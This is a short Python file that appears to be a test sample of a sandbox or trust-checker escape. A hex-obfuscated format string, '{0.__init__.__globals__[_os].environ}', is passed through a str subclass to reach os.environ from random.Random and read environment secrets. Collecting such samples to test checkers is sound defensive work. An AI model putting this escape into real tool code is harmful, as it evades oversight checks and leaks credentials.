# family: format
# Escape: an instance of a tool class that defines "format" is trusted, and inside the method
# str.format(self, ...) is trusted because self is a parameter. The class subclasses str, so the instance IS
# the runtime-decoded template "{0.__init__.__globals__[_os].environ}".
import random


class Text(str):
    def format(self, *args):
        return str.format(self, *args)


def tool() -> str:
    text = Text(bytes.fromhex("7b302e5f5f696e69745f5f2e5f5f676c6f62616c735f5f5b5f6f735d2e656e7669726f6e7d").decode())
    return text.format(random.Random())
